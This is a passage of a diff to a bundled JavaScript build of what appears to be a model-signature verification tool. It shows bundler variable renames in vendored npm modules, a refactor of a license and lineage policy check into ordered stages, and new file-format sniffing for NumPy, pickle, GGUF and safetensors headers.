+      const err = new Error(`Integrity verification failed for ${sri} (${path26})`);
       err.code = "EINTEGRITY";
       err.sri = sri;
-      err.path = path25;
+      err.path = path26;
       return err;
     }
   }
@@ -38863,7 +38863,7 @@ var require_write = __commonJS({
     var { Minipass } = require_commonjs4();
     var Pipeline = require_minipass_pipeline();
     var Flush = require_minipass_flush();
-    var path25 = __require("path");
+    var path26 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var fsm = require_lib6();
@@ -38983,7 +38983,7 @@ var require_write = __commonJS({
     }
     async function makeTmp(cache, opts) {
       const tmpTarget = tmpName(cache, opts.tmpPrefix);
-      await fs2.mkdir(path25.dirname(tmpTarget), { recursive: true });
+      await fs2.mkdir(path26.dirname(tmpTarget), { recursive: true });
       return {
         target: tmpTarget,
         moved: false
@@ -38991,7 +38991,7 @@ var require_write = __commonJS({
     }
     async function moveToDestination(tmp, cache, sri) {
       const destination = contentPath(cache, sri);
-      const destDir = path25.dirname(destination);
+      const destDir = path26.dirname(destination);
       if (moveOperations.has(destination)) {
         return moveOperations.get(destination);
       }
@@ -42125,9 +42125,9 @@ var require_glob = __commonJS({
   "node_modules/cacache/lib/util/glob.js"(exports, module) {
     "use strict";
     var { glob } = require_index_min2();
-    var path25 = __require("path");
-    var globify = (pattern) => pattern.split(path25.win32.sep).join(path25.posix.sep);
-    module.exports = (path26, options) => glob(globify(path26), options);
+    var path26 = __require("path");
+    var globify = (pattern) => pattern.split(path26.win32.sep).join(path26.posix.sep);
+    module.exports = (path27, options) => glob(globify(path27), options);
   }
 });
 
@@ -42159,7 +42159,7 @@ var require_rm2 = __commonJS({
     var glob = require_glob();
     var index = require_entry_index();
     var memo = require_memoization();
-    var path25 = __require("path");
+    var path26 = __require("path");
     var rmContent = require_rm();
     module.exports = entry;
     module.exports.entry = entry;
@@ -42175,7 +42175,7 @@ var require_rm2 = __commonJS({
     module.exports.all = all;
     async function all(cache) {
       memo.clearMemoized();
-      const paths = await glob(path25.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
+      const paths = await glob(path26.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
       return Promise.all(paths.map((p2) => rm4(p2, { recursive: true, force: true })));
     }
   }
@@ -42197,7 +42197,7 @@ var require_verify2 = __commonJS({
     var fsm = require_lib6();
     var glob = require_glob();
     var index = require_entry_index();
-    var path25 = __require("path");
+    var path26 = __require("path");
     var ssri = require_lib4();
     var hasOwnProperty = (obj, key) => Object.prototype.hasOwnProperty.call(obj, key);
     var verifyOpts = (opts) => ({
@@ -42274,7 +42274,7 @@ var require_verify2 = __commonJS({
         indexStream.on("end", resolve).on("error", reject2);
       });
       const contentDir = contentPath.contentDir(cache);
-      const files = await glob(path25.join(contentDir, "**"), {
+      const files = await glob(path26.join(contentDir, "**"), {
         follow: false,
         nodir: true,
         nosort: true
@@ -42395,16 +42395,16 @@ var require_verify2 = __commonJS({
     }
     function cleanTmp(cache, opts) {
       opts.log.silly("verify", "cleaning tmp directory");
-      return rm4(path25.join(cache, "tmp"), { recursive: true, force: true });
+      return rm4(path26.join(cache, "tmp"), { recursive: true, force: true });
     }
     async function writeVerifile(cache, opts) {
-      const verifile = path25.join(cache, "_lastverified");
+      const verifile = path26.join(cache, "_lastverified");
       opts.log.silly("verify", "writing verifile to " + verifile);
       return writeFile5(verifile, `${Date.now()}`);
     }
     module.exports.lastRun = lastRun2;
     async function lastRun2(cache) {
-      const data = await readFile2(path25.join(cache, "_lastverified"), { encoding: "utf8" });
+      const data = await readFile2(path26.join(cache, "_lastverified"), { encoding: "utf8" });
       return /* @__PURE__ */ new Date(+data);
     }
   }
@@ -42854,22 +42854,22 @@ var require_matchers = __commonJS({
     };
     var DEEP_HEADER_AUTHORIZATION = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".headers.authorization"),
+      predicate: ({ path: path26 }) => path26.endsWith(".headers.authorization"),
       replacement: "[REDACTED_HEADER_AUTHORIZATION]"
     };
     var DEEP_HEADER_SET_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".headers.set-cookie"),
+      predicate: ({ path: path26 }) => path26.endsWith(".headers.set-cookie"),
       replacement: "[REDACTED_HEADER_SET_COOKIE]"
     };
     var DEEP_HEADER_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".headers.cookie"),
+      predicate: ({ path: path26 }) => path26.endsWith(".headers.cookie"),
       replacement: "[REDACTED_HEADER_COOKIE]"
     };
     var REWRITE_REQUEST = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".request"),
+      predicate: ({ path: path26 }) => path26.endsWith(".request"),
       replacement: (input) => ({
         method: input?.method,
         path: input?.path,
@@ -42879,7 +42879,7 @@ var require_matchers = __commonJS({
     };
     var REWRITE_RESPONSE = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".response"),
+      predicate: ({ path: path26 }) => path26.endsWith(".response"),
       replacement: (input) => ({
         data: input?.data,
         status: input?.status,
@@ -42995,12 +42995,12 @@ var require_utils2 = __commonJS({
       },
       [TYPE_PATH]: (matcher) => (value, ctx) => {
         const rawPath = ctx?.path;
-        const path25 = rawPath.join(".").toLowerCase();
+        const path26 = rawPath.join(".").toLowerCase();
         const { predicate, replacement } = matcher;
         const replace = typeof replacement === "function" ? replacement : () => replacement;
-        const shouldRun = predicate({ rawPath, path: path25 });
+        const shouldRun = predicate({ rawPath, path: path26 });
         if (shouldRun) {
-          value = replace(value, { rawPath, path: path25 });
+          value = replace(value, { rawPath, path: path26 });
         }
         return value;
       }
@@ -45382,13 +45382,13 @@ var require_ipv4 = __commonJS({
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.Address4 = void 0;
     var common = __importStar(require_common2());
-    var constants7 = __importStar(require_constants4());
+    var constants8 = __importStar(require_constants4());
     var address_error_1 = require_address_error();
-    var isCorrect4 = common.isCorrect(constants7.BITS);
+    var isCorrect4 = common.isCorrect(constants8.BITS);
     var Address4 = class _Address4 {
       constructor(address) {
         this.addressMinusSuffix = "";
-        this.groups = constants7.GROUPS;
+        this.groups = constants8.GROUPS;
         this.parsedAddress = [];
         this.parsedSubnet = "";
         this.subnet = "/32";
@@ -45398,17 +45398,17 @@ var require_ipv4 = __commonJS({
         this.isInSubnet = common.isInSubnet;
         this.isHostInSubnet = common.isHostInSubnet;
         this.address = address;
-        const subnet = constants7.RE_SUBNET_STRING.exec(address);
+        const subnet = constants8.RE_SUBNET_STRING.exec(address);
         if (subnet) {
           this.parsedSubnet = subnet[0].replace("/", "");
           this.subnetMask = parseInt(this.parsedSubnet, 10);
           this.subnet = `/${this.subnetMask}`;
-          if (this.subnetMask < 0 || this.subnetMask > constants7.BITS) {
+          if (this.subnetMask < 0 || this.subnetMask > constants8.BITS) {
             throw new address_error_1.AddressError("Invalid subnet mask.");
           }
-          address = address.replace(constants7.RE_SUBNET_STRING, "");
+          address = address.replace(constants8.RE_SUBNET_STRING, "");
         }
-        const longest = constants7.GROUPS * 4 - 1;
+        const longest = constants8.GROUPS * 4 - 1;
         if (address.length > longest) {
           throw new address_error_1.AddressError(`IPv4 addresses are at most ${longest} characters.`);
         }
@@ -45441,7 +45441,7 @@ var require_ipv4 = __commonJS({
         if (groups.some((group) => /^0\d/.test(group))) {
           throw new address_error_1.AddressError("IPv4 addresses can't have leading zeroes.");
         }
-        if (!address.match(constants7.RE_ADDRESS)) {
+        if (!address.match(constants8.RE_ADDRESS)) {
           throw new address_error_1.AddressError("Invalid IPv4 address.");
         }
         return groups;
@@ -45464,7 +45464,7 @@ var require_ipv4 = __commonJS({
        * address.subnetMask; // 24
        */
       static fromAddressAndMask(address, mask) {
-        const bits = common.prefixLengthFromMask(new _Address4(mask).bigInt(), constants7.BITS);
+        const bits = common.prefixLengthFromMask(new _Address4(mask).bigInt(), constants8.BITS);
         return new _Address4(`${address}/${bits}`);
       }
       /**
@@ -45478,9 +45478,9 @@ var require_ipv4 = __commonJS({
        */
       static fromAddressAndWildcardMask(address, wildcardMask) {
         const wildcard = new _Address4(wildcardMask).bigInt();
-        const allOnes = (BigInt(1) << BigInt(constants7.BITS)) - BigInt(1);
+        const allOnes = (BigInt(1) << BigInt(constants8.BITS)) - BigInt(1);
         const mask = wildcard ^ allOnes;
-        const bits = common.prefixLengthFromMask(mask, constants7.BITS);
+        const bits = common.prefixLengthFromMask(mask, constants8.BITS);
         return new _Address4(`${address}/${bits}`);
       }
       /**
@@ -45498,7 +45498,7 @@ var require_ipv4 = __commonJS({
        */
       static fromWildcard(input) {
         const groups = input.split(".");
-        if (groups.length !== constants7.GROUPS) {
+        if (groups.length !== constants8.GROUPS) {
           throw new address_error_1.AddressError("Wildcard pattern must have 4 octets");
         }
         let firstWildcard = -1;
@@ -45513,7 +45513,7 @@ var require_ipv4 = __commonJS({
         }
         const trailing = firstWildcard === -1 ? 0 : groups.length - firstWildcard;
         const replaced = groups.map((g2) => g2 === "*" ? "0" : g2);
-        const subnetBits = constants7.BITS - trailing * 8;
+        const subnetBits = constants8.BITS - trailing * 8;
         return new _Address4(`${replaced.join(".")}/${subnetBits}`);
       }
       /**
@@ -45559,7 +45559,7 @@ var require_ipv4 = __commonJS({
        * address.correctForm(); // '192.0.2.42'
        */
       static fromArpa(arpaFormAddress) {
-        const longest = constants7.GROUPS * 4 - 1 + "/32".length + ".in-addr.arpa.".length;
+        const longest = constants8.GROUPS * 4 - 1 + "/32".length + ".in-addr.arpa.".length;
         if (arpaFormAddress.length > longest) {
           throw new address_error_1.AddressError(`in-addr.arpa names are at most ${longest} characters.`);
         }
@@ -45590,7 +45590,7 @@ var require_ipv4 = __commonJS({
       toGroup6() {
         const output2 = [];
         let i;
-        for (i = 0; i < constants7.GROUPS; i += 2) {
+        for (i = 0; i < constants8.GROUPS; i += 2) {
           output2.push(`${common.stringToPaddedHex(this.parsedAddress[i])}${common.stringToPaddedHex(this.parsedAddress[i + 1])}`);
         }
         return output2.join(":");
@@ -45607,7 +45607,7 @@ var require_ipv4 = __commonJS({
        * @returns {bigint}
        */
       _startAddress() {
-        return BigInt(`0b${this.mask() + "0".repeat(constants7.BITS - this.subnetMask)}`);
+        return BigInt(`0b${this.mask() + "0".repeat(constants8.BITS - this.subnetMask)}`);
       }
       /**
        * The first address in the range given by this address' subnet.
@@ -45637,7 +45637,7 @@ var require_ipv4 = __commonJS({
        * new Address4('10.0.0.0/24').offset(1).correctForm(); // '10.0.0.1'
        */
       offset(n) {
-        return _Address4.fromBigInt(common.offsetBigInt(this.bigInt(), n, constants7.BITS, "IPv4")).withSubnetMask(this.subnetMask);
+        return _Address4.fromBigInt(common.offsetBigInt(this.bigInt(), n, constants8.BITS, "IPv4")).withSubnetMask(this.subnetMask);
       }
       /**
        * Returns the network that follows this address's network: the address after
@@ -45648,7 +45648,7 @@ var require_ipv4 = __commonJS({
        * new Address4('10.0.0.0/24').nextNetwork().networkForm(); // '10.0.1.0/24'
        */
       nextNetwork() {
-        return _Address4.fromBigInt(common.offsetBigInt(this._endAddress(), 1, constants7.BITS, "IPv4")).withSubnetMask(this.subnetMask);
+        return _Address4.fromBigInt(common.offsetBigInt(this._endAddress(), 1, constants8.BITS, "IPv4")).withSubnetMask(this.subnetMask);
       }
       withSubnetMask(subnetMask) {
         return new _Address4(`${this.correctForm()}/${subnetMask}`);
@@ -45658,7 +45658,7 @@ var require_ipv4 = __commonJS({
        * @returns {bigint}
        */
       _endAddress() {
-        return BigInt(`0b${this.mask() + "1".repeat(constants7.BITS - this.subnetMask)}`);
+        return BigInt(`0b${this.mask() + "1".repeat(constants8.BITS - this.subnetMask)}`);
       }
       /**
        * The last address in the range given by this address' subnet
@@ -45683,7 +45683,7 @@ var require_ipv4 = __commonJS({
        * @returns {Address4}
        */
       subnetMaskAddress() {
-        return _Address4.fromBigInt(BigInt(`0b${"1".repeat(this.subnetMask)}${"0".repeat(constants7.BITS - this.subnetMask)}`));
+        return _Address4.fromBigInt(BigInt(`0b${"1".repeat(this.subnetMask)}${"0".repeat(constants8.BITS - this.subnetMask)}`));
       }
       /**
        * The Cisco-style wildcard mask, e.g. `0.0.0.255` for a `/24`. This is
@@ -45692,7 +45692,7 @@ var require_ipv4 = __commonJS({
        * @returns {Address4}
        */
       wildcardMask() {
-        return _Address4.fromBigInt(BigInt(`0b${"0".repeat(this.subnetMask)}${"1".repeat(constants7.BITS - this.subnetMask)}`));
+        return _Address4.fromBigInt(BigInt(`0b${"0".repeat(this.subnetMask)}${"1".repeat(constants8.BITS - this.subnetMask)}`));
       }
       /**
        * The network address in CIDR string form, e.g. `192.168.1.0/24` for
@@ -45873,7 +45873,7 @@ var require_ipv4 = __commonJS({
        */
       binaryZeroPad() {
         if (this._binaryZeroPad === void 0) {
-          this._binaryZeroPad = this.bigInt().toString(2).padStart(constants7.BITS, "0");
+          this._binaryZeroPad = this.bigInt().toString(2).padStart(constants8.BITS, "0");
         }
         return this._binaryZeroPad;
       }
@@ -45888,7 +45888,7 @@ var require_ipv4 = __commonJS({
        */
       groupForV6() {
         const segments = this.parsedAddress;
-        return this.correctForm().replace(constants7.RE_ADDRESS, `<span class="hover-group group-v4 group-6">${segments.slice(0, 2).join(".")}</span>.<span class="hover-group group-v4 group-7">${segments.slice(2, 4).join(".")}</span>`);
+        return this.correctForm().replace(constants8.RE_ADDRESS, `<span class="hover-group group-v4 group-6">${segments.slice(0, 2).join(".")}</span>.<span class="hover-group group-v4 group-7">${segments.slice(2, 4).join(".")}</span>`);
       }
     };
     exports.Address4 = Address4;
@@ -45910,7 +45910,7 @@ var require_ipv4 = __commonJS({
     ];
     var BENCHMARKING_V4 = new Address4("198.18.0.0/15");
     var RESERVED_V4 = new Address4("240.0.0.0/4");
-    var SPECIAL_PURPOSE_V4 = constants7.SPECIAL_PURPOSE.map(([cidr, , reachable]) => ({
+    var SPECIAL_PURPOSE_V4 = constants8.SPECIAL_PURPOSE.map(([cidr, , reachable]) => ({
       subnet: new Address4(cidr),
       reachable
     }));
@@ -50064,14 +50064,14 @@ var require_url = __commonJS({
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.join = join2;
     var url_1 = __require("url");
-    function join2(base2, path25) {
-      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path25)).toString();
+    function join2(base2, path26) {
+      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path26)).toString();
     }
-    function ensureTrailingSlash(path25) {
-      return path25.endsWith("/") ? path25 : path25 + "/";
+    function ensureTrailingSlash(path26) {
+      return path26.endsWith("/") ? path26 : path26 + "/";
     }
-    function removeLeadingSlash(path25) {
-      return path25.startsWith("/") ? path25.slice(1) : path25;
+    function removeLeadingSlash(path26) {
+      return path26.startsWith("/") ? path26.slice(1) : path26;
     }
   }
 });
@@ -50125,7 +50125,7 @@ var require_updater = __commonJS({
     var models_1 = require_dist5();
     var debug_1 = __importDefault(require_src());
     var fs2 = __importStar(__require("fs"));
-    var path25 = __importStar(__require("path"));
+    var path26 = __importStar(__require("path"));
     var package_json_1 = require_package4();
     var config_1 = require_config();
     var error_1 = require_error6();
@@ -50197,7 +50197,7 @@ var require_updater = __commonJS({
         const consistentSnapshot = this.trustedSet.root.signed.consistentSnapshot;
         if (consistentSnapshot && this.config.prefixTargetsWithHash) {
           const hashes = Object.values(targetInfo.hashes);
-          const { dir, base: base2 } = path25.parse(targetFilePath);
+          const { dir, base: base2 } = path26.parse(targetFilePath);
           const filename = `${hashes[0]}.${base2}`;
           targetFilePath = dir ? `${dir}/${filename}` : filename;
         }
@@ -50224,7 +50224,7 @@ var require_updater = __commonJS({
         return;
       }
       loadLocalMetadata(fileName) {
-        const filePath = path25.join(this.dir, `${fileName}.json`);
+        const filePath = path26.join(this.dir, `${fileName}.json`);
         log("READ %s", filePath);
         return fs2.readFileSync(filePath);
       }
@@ -50371,12 +50371,12 @@ var require_updater = __commonJS({
           throw new error_1.ValueError("Target directory not set");
         }
         const filePath = encodeURIComponent(targetInfo.path);
-        return path25.join(this.targetDir, filePath);
+        return path26.join(this.targetDir, filePath);
       }
       persistMetadata(metaDataName, bytesData) {
         const encodedName = encodeURIComponent(metaDataName);
         try {
-          const filePath = path25.join(this.dir, `${encodedName}.json`);
+          const filePath = path26.join(this.dir, `${encodedName}.json`);
           log("WRITE %s", filePath);
           fs2.writeFileSync(filePath, bytesData.toString("utf8"));
         } catch (error) {
@@ -50488,13 +50488,13 @@ var require_target = __commonJS({
     var fs_1 = __importDefault(__require("fs"));
     var error_1 = require_error7();
     async function readTarget(tuf, targetPath) {
-      const path25 = await getTargetPath(tuf, targetPath);
+      const path26 = await getTargetPath(tuf, targetPath);
       return new Promise((resolve, reject2) => {
-        fs_1.default.readFile(path25, "utf-8", (err, data) => {
+        fs_1.default.readFile(path26, "utf-8", (err, data) => {
           if (err) {
             reject2(new error_1.TUFError({
               code: "TUF_READ_TARGET_ERROR",
-              message: `error reading target ${path25}`,
+              message: `error reading target ${path26}`,
               cause: err
             }));
           } else {
@@ -50520,19 +50520,19 @@ var require_target = __commonJS({
           message: `target ${target} not found`
         });
       }
-      let path25 = await tuf.findCachedTarget(targetInfo);
-      if (!path25) {
+      let path26 = await tuf.findCachedTarget(targetInfo);
+      if (!path26) {
         try {
-          path25 = await tuf.downloadTarget(targetInfo);
+          path26 = await tuf.downloadTarget(targetInfo);
         } catch (err) {
           throw new error_1.TUFError({
             code: "TUF_DOWNLOAD_TARGET_ERROR",
-            message: `error downloading target ${path25}`,
+            message: `error downloading target ${path26}`,
             cause: err
           });
         }
       }
-      return path25;
+      return path26;
     }
   }
 });
@@ -51324,37 +51324,40 @@ var init_trust = __esm({
   }
 });
 
+// src/verify/stage.ts
+function checkStage(name2, check, kinds = {}) {
+  return { name: name2, ...kinds, start: () => ({ check }) };
+}
+function checkStageOrder(stages) {
+  const producer = /* @__PURE__ */ new Map();
+  stages.forEach((s3, i) => {
+    if (!s3.produces) return;
+    if (producer.has(s3.produces)) throw new Error(`stages ${stages[producer.get(s3.produces)].name} and ${s3.name} both produce the ${s3.produces} report`);
+    producer.set(s3.produces, i);
+  });
+  stages.forEach((s3, i) => {
+    for (const k2 of s3.reads ?? []) {
+      const p2 = producer.get(k2);
+      if (p2 !== void 0 && p2 > i) throw new Error(`stage ${s3.name} reads the ${k2} report, but ${stages[p2].name} runs after it`);
+    }
+  });
+}
+function stageInspector(runs) {
+  const with_ = runs.filter((r) => r.inspector);
+  if (with_.length > 1) throw new Error("more than one stage attaches an inspector to the file read");
+  return with_[0]?.inspector;
+}
+var init_stage = __esm({
+  "src/verify/stage.ts"() {
+    "use strict";
+  }
+});
+
 // src/policy/stage.ts
 var stage_exports = {};
 __export(stage_exports, {
-  policyStage: () => policyStage,
-  readLineage: () => readLineage
+  policyStage: () => policyStage
 });
-function readLineage(v2) {
-  if (v2 === void 0) return void 0;
-  if (typeof v2 !== "object" || v2 === null || !Array.isArray(v2.ancestors)) return "malformed";
-  const list2 = v2.ancestors;
-  if (list2.length > MAX_ANCESTORS) return "malformed";
-  const out2 = [];
-  for (const a of list2) {
-    if (typeof a !== "object" || a === null) return "malformed";
-    const x = a;
-    if (typeof x.name !== "string" || typeof x.rootDigest !== "string" || typeof x.verified !== "boolean") return "malformed";
-    if (x.license !== void 0 && x.license !== null && typeof x.license !== "string") return "malformed";
-    out2.push({
-      name: x.name,
-      rootDigest: x.rootDigest,
-      verified: x.verified,
-      ...typeof x.version === "string" ? { version: x.version } : {},
-      ...typeof x.license === "string" ? { license: x.license } : {},
-      ...typeof x.relation === "string" ? { relation: x.relation } : {},
-      ...typeof x.signer === "string" ? { signer: x.signer } : {},
-      ...typeof x.depth === "number" ? { depth: x.depth } : {},
-      ...typeof x.childName === "string" ? { childName: x.childName } : {}
-    });
-  }
-  return { ancestors: out2 };
-}
 function declaresParents(lineage) {
   if (Array.isArray(lineage)) return lineage.length > 0;
   if (typeof lineage === "object" && lineage !== null) {
@@ -51389,7 +51392,10 @@ function licenseFailure(s3, raw, blockers, purpose) {
   return { code, message: `license "${clean3(raw, 200)}" ${origin(s3)} ${detail} for ${purpose} by the policy` };
 }
 function policyStage(policy, purpose) {
-  return async (ctx) => {
+  return checkStage("policy", (ctx) => checkPolicy(policy, purpose, ctx), { reads: ["lineage"], produces: "policy" });
+}
+async function checkPolicy(policy, purpose, ctx) {
+  {
     const failures = [];
     const meta = ctx.statement.metadata;
     const model = {
@@ -51399,13 +51405,9 @@ function policyStage(policy, purpose) {
       rootDigest: ctx.result.rootDigest ? prefixed(ctx.result.rootDigest) : void 0,
       license: meta?.license
     };
-    const lineage = readLineage(ctx.result.extra.lineage);
-    const report2 = { file: policy.file, purpose, licenses: [], lineageChecked: lineage !== void 0 && lineage !== "malformed" };
-    ctx.result.extra.policy = report2;
-    if (lineage === "malformed") {
-      failures.push({ code: "POLICY_LINEAGE_MALFORMED", message: "the lineage result is not in the expected form; the policy cannot tell which licenses bind the model" });
-      return failures;
-    }
+    const lineage = ctx.result.reports.lineage;
+    const report2 = { file: policy.file, purpose, licenses: [], lineageChecked: lineage !== void 0 };
+    ctx.result.reports.policy = report2;
     const ancestors = lineage?.ancestors ?? [];
     if (policy.lineage.require) {
       if (!lineage) failures.push({ code: "POLICY_LINEAGE_REQUIRED", message: `the policy requires verified lineage, but no lineage was checked (give --lineage DIR)` });
@@ -51417,7 +51419,7 @@ function policyStage(policy, purpose) {
     }
     const sources = [
       model,
-      ...ancestors.map((a) => ({ kind: "ancestor", name: a.name, version: a.version, rootDigest: prefixed(a.rootDigest), relation: a.relation, childName: a.childName, license: a.license }))
+      ...ancestors.map((a) => ({ kind: "ancestor", name: a.name, version: a.version ?? void 0, rootDigest: prefixed(a.rootDigest), relation: a.relation ?? void 0, childName: a.childName ?? void 0, license: a.license ?? void 0 }))
     ];
     if (policy.revoked.length > 0) {
       const revoked = new Set(policy.revoked);
@@ -51449,339 +51451,2162 @@ function policyStage(policy, purpose) {
       }
     }
     return failures;
-  };
+  }
+  ;
 }
-var import_semver3, MAX_ANCESTORS, clean3;
-var init_stage = __esm({
+var import_semver3, clean3;
+var init_stage2 = __esm({
   "src/policy/stage.ts"() {
     "use strict";
     import_semver3 = __toESM(require_semver2(), 1);
+    init_stage();
     init_licenses();
     init_metadata();
     init_one_line();
-    MAX_ANCESTORS = 1e4;
     clean3 = (text, max = 120) => clean(text, max);
   }
 });
 
-// src/hashing/model-path.ts
-import { stat as stat3 } from "node:fs/promises";
-function modelPathError(model, e, what = "model") {
-  const c = errnoCode(e);
-  const missing = c === "ENOENT" || c === "ENOTDIR";
-  return usage("MODEL_NOT_FOUND", missing ? `model not found: ${model}` : `cannot read ${what} ${model}: ${c ?? String(e)}`);
-}
-async function statModel(model) {
-  try {
-    return await stat3(model);
-  } catch (e) {
-    throw modelPathError(model, e);
-  }
-}
-var init_model_path = __esm({
-  "src/hashing/model-path.ts"() {
-    "use strict";
-    init_errors();
-  }
-});
-
-// src/hashing/paths.ts
-import path7 from "node:path";
-function compareCodePoints(a, b2) {
-  const n = a.length < b2.length ? a.length : b2.length;
-  for (let i = 0; i < n; i++) {
-    const x = a.charCodeAt(i);
-    const y = b2.charCodeAt(i);
-    if (x === y) continue;
-    if ((x & 63488) !== 55296 && (y & 63488) !== 55296) return x < y ? -1 : 1;
-    const from = i > 0 && (a.charCodeAt(i - 1) & 64512) === 55296 ? i - 1 : i;
-    return compareFrom(a, b2, from);
-  }
-  return a.length === b2.length ? 0 : a.length < b2.length ? -1 : 1;
-}
-function compareFrom(a, b2, i) {
-  let j2 = i;
-  let k2 = i;
-  for (; ; ) {
-    if (j2 >= a.length || k2 >= b2.length) return j2 >= a.length && k2 >= b2.length ? 0 : j2 >= a.length ? -1 : 1;
-    const x = a.codePointAt(j2);
-    const y = b2.codePointAt(k2);
-    if (x !== y) return x < y ? -1 : 1;
-    j2 += x > 65535 ? 2 : 1;
-    k2 += y > 65535 ? 2 : 1;
-  }
-}
-function unsafeNameReason(name2) {
-  if (name2.length === 0) return "empty name";
-  if (name2.length > 4096) return "name longer than 4096 characters";
-  if (name2.startsWith("/")) return "absolute path";
-  if (/^[A-Za-z]:/.test(name2)) return "drive-letter path";
-  if (name2.includes("\\")) return "backslash in name";
-  if (/[\u0000-\u001f\u007f]/.test(name2)) return "control character in name";
-  if (new RegExp("\\p{Cs}", "u").test(name2)) return "lone UTF-16 surrogate in name (not valid Unicode)";
-  for (const seg of name2.split("/")) {
-    if (seg === "") return "empty path segment";
-    if (seg === "..") return '".." segment';
-    if (seg === ".") return '"." segment';
-    if (/^[. ]+$/.test(seg)) return "segment of only dots and spaces";
-  }
-  return void 0;
-}
-function normaliseIgnorePath(p2) {
-  let s3 = p2.replace(/\\/g, "/");
-  while (s3.startsWith("./")) s3 = s3.slice(2);
-  while (s3.length > 1 && s3.endsWith("/")) s3 = s3.slice(0, -1);
-  return s3;
-}
-function isIgnored(name2, ignorePaths) {
-  for (const p2 of ignorePaths) {
-    if (p2 === "" || p2 === ".") continue;
-    if (name2 === p2 || name2.startsWith(p2 + "/")) return true;
-  }
-  return false;
-}
-function effectiveIgnores(model, signaturePath, signed, user) {
-  const out2 = new Set([...DEFAULT_IGNORES, ...signed ?? [], ...user].map(normaliseIgnorePath));
-  const rel = path7.relative(path7.resolve(model), path7.resolve(signaturePath));
-  if (rel && !rel.startsWith("..") && !path7.isAbsolute(rel)) out2.add(rel.split(path7.sep).join("/"));
-  return [...out2].filter((p2) => p2 !== "" && p2 !== ".");
-}
-var DEFAULT_IGNORES;
-var init_paths = __esm({
-  "src/hashing/paths.ts"() {
-    "use strict";
-    DEFAULT_IGNORES = [".git", ".github", ".gitattributes", ".gitignore"];
-  }
-});
-
-// src/hashing/enumerate.ts
-import { isUtf8 } from "node:buffer";
-import { lstatSync, readdirSync, realpathSync, statSync } from "node:fs";
-import { lstat as lstat2, realpath } from "node:fs/promises";
-import path8 from "node:path";
-function within(rootReal, target) {
-  return target === rootReal || target.startsWith(rootReal.endsWith(path8.sep) ? rootReal : rootReal + path8.sep);
-}
-function kindOf(st2) {
-  if (st2.isFIFO()) return "FIFO";
-  if (st2.isSocket()) return "socket";
-  if (st2.isCharacterDevice()) return "character device";
-  if (st2.isBlockDevice()) return "block device";
-  return "special file";
-}
-function readNames(absDir) {
-  const names = readdirSync(absDir);
-  let suspect = false;
-  for (const n of names) {
-    if (n.includes("\uFFFD")) {
-      suspect = true;
-      break;
+// src/source/random-access.ts
+function handleReader(fh, size) {
+  return {
+    size,
+    async read(position, length) {
+      const n = Math.max(0, Math.min(length, size - position));
+      const buf = Buffer.allocUnsafe(n);
+      let got = 0;
+      while (got < n) {
+        const { bytesRead } = await fh.read(buf, got, n - got, position + got);
+        if (bytesRead === 0) break;
+        got += bytesRead;
+      }
+      return got === n ? buf : buf.subarray(0, got);
     }
-  }
-  if (!suspect) return { names, invalid: NO_BYTES };
-  const valid = [];
-  const invalid2 = [];
-  for (const raw of readdirSync(absDir, { encoding: "buffer" })) {
-    if (isUtf8(raw)) valid.push(raw.toString("utf8"));
-    else invalid2.push(raw);
-  }
-  return { names: valid, invalid: invalid2 };
+  };
 }
-function realTarget(abs) {
-  const target = realpathSync.native(abs);
-  if (!target.includes("\uFFFD")) return target;
-  const raw = realpathSync.native(abs, { encoding: "buffer" });
-  return isUtf8(raw) ? raw.toString("utf8") : void 0;
+var init_random_access = __esm({
+  "src/source/random-access.ts"() {
+    "use strict";
+  }
+});
+
+// src/scan/npy.ts
+async function readNpyHeader(src) {
+  if (!await src.ensure(10)) return { ok: false, problem: "file is too short for a .npy header" };
+  const head = src.take(8);
+  if (!head.subarray(0, 6).equals(NPY_MAGIC)) return { ok: false, problem: "missing the \\x93NUMPY magic" };
+  const major = head[6];
+  if (major < 1 || major > 3) return { ok: false, problem: `unsupported .npy version ${major}` };
+  const len = major === 1 ? (await src.read(2)).readUInt16LE(0) : (await src.read(4)).readUInt32LE(0);
+  if (len > 1 << 20) return { ok: false, problem: `header length ${len} is implausibly large` };
+  if (!await src.ensure(len)) return { ok: false, problem: "header runs past the end of the file" };
+  const header = src.take(len).toString(major === 3 ? "utf8" : "latin1");
+  if (!/'descr'\s*:/.test(header)) return { ok: false, problem: "header has no descr" };
+  const objectDtype = /['"][|<>=]?O\d*['"]/.test(header) || /object/.test(header);
+  return { ok: true, objectDtype, header: header.trim() };
 }
-function escapeName(raw) {
+var NPY_MAGIC;
+var init_npy = __esm({
+  "src/scan/npy.ts"() {
+    "use strict";
+    NPY_MAGIC = Buffer.from([147, 78, 85, 77, 80, 89]);
+  }
+});
+
+// src/scan/detect.ts
+function ext(name2) {
+  const base2 = name2.slice(name2.lastIndexOf("/") + 1).toLowerCase();
+  const i = base2.lastIndexOf(".");
+  return i <= 0 ? "" : base2.slice(i);
+}
+function looksLikeOldPickle(head) {
+  const t = head.toString("latin1");
+  return /^\(?[ci][A-Za-z_][\w.]*\n[A-Za-z_][\w.]*\n[(pq)N}\]SVIFKJMXUR.\x85\x86\x87]/.test(t) || /^\((?:dp\d+\n|lp\d+\n|t[.Rp])/.test(t) || /^[}\]](?:q\x00|\(|\.)/.test(t);
+}
+function sniff(head, name2) {
+  if (head.length >= 4 && head[0] === 80 && head[1] === 75 && (head[2] === 3 && head[3] === 4 || head[2] === 5 && head[3] === 6)) return "zip";
+  if (head.length >= 6 && head.subarray(0, 6).equals(NPY_MAGIC)) return "npy";
+  if (head.length >= 4 && head.toString("latin1", 0, 4) === "GGUF") return "gguf";
+  if (head.length >= 9 && head[8] === 123 && head.readBigUInt64LE(0) < 100000000n) return "safetensors";
+  if (head.length >= 2 && head[0] === 128 && head[1] <= 5) return "pickle";
